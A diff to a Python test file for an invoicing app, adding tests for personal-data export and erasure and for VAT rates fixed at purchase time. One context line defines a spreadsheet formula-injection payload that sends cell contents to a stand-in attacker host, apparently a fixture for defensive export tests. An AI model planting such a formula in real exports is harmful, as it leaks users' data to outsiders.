@@ -4,11 +4,12 @@ from collections.abc import Awaitable, Callable
 from typing import Any
 
 import httpx
-from sqlalchemy import func, select, text
+from sqlalchemy import func, select, text, update
 
+from app.catalog.models import ProductVatRate
 from app.core.db import Database
 from app.core.exporting import ExportTaken
-from app.core.ids import read_pair
+from app.core.ids import public_single, read_pair
 from app.core.jobs import JobContext
 from app.identity.models import AccessLogEntry, Role
 from app.invoices.jobs import find_over
@@ -30,7 +31,7 @@ from tests.factories.invoices import (
 from tests.factories.world import MORNING, TODAY, World, once
 from tests.fixtures.invariants import assert_invariants
 from tests.fixtures.payments import Payments
-from tests.orders.conftest import Deliver
+from tests.orders.conftest import Deliver, pay
 
 Drain = Callable[[], Awaitable[list[str]]]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -130,6 +131,47 @@ async def test_a_refund_after_issuing_asks_for_a_red_invoice(
     assert (await see(client, world, "/invoice-corrections"))["items"] == []
     nothing = await ask(client, order, world.household)
     assert (nothing.status_code, nothing.json()["code"]) == (409, "invoice_amount_above_rest")
+    copy = await client.get("/me/export", headers=world.household.headers)
+    assert copy.json()["invoices"][0]["tax_number"] == COMPANY
+    erased = await client.delete("/me", headers=world.household.headers)
+    assert erased.status_code == 204, erased.text
+    kept = await see(client, world, f"/invoices/{invoice['id']}")
+    assert (kept["title"], kept["email"]) == ("上**", None), "the books keep the title alone"
+    await hold(database)
+
+
+async def test_lines_have_the_rates_their_products_were_bought_under(
+    client: httpx.AsyncClient,
+    world: World,
+    database: Database,
+    payments: Payments,
+    drain_jobs: Drain,
+) -> None:
+    async with database.transaction() as session:
+        await session.execute(
+            update(ProductVatRate)
+            .where(ProductVatRate.product_id == world.yogurt_id)
+            .values(permille=130)
+        )
+    body = orders.order_body(world, world.household, bottles=10)
+    yogurt = public_single("prd", world.yogurt_id)
+    body["lines"].append(orders.line(world, product_id=yogurt, bottles=10))
+    headers = world.household.headers
+    order = (await client.post("/orders", json=body, headers=headers | once())).json()
+    await pay(client, payments, order["id"], world.household)
+    await payments.deliver_notifications()
+    await drain_jobs()
+    async with database.transaction() as session:
+        await session.execute(update(ProductVatRate).values(permille=60))
+    whole = (await ask(client, order, world.household)).json()
+    assert [(one["vat_permille"], one["amount_fen"], one["tax_fen"]) for one in whole["lines"]] == [
+        (90, 3_500, 289),
+        (130, 4_200, 483),
+    ]
+    assert (whole["amount_fen"], whole["tax_fen"]) == (7_700, 772)
+    await client.post(f"/invoices/{whole['id']}/cancel", headers=headers | once())
+    part = (await ask(client, order, world.household, person(amount_fen=101))).json()
+    assert [one["amount_fen"] for one in part["lines"]] == [46, 55]
     await hold(database)
 
 
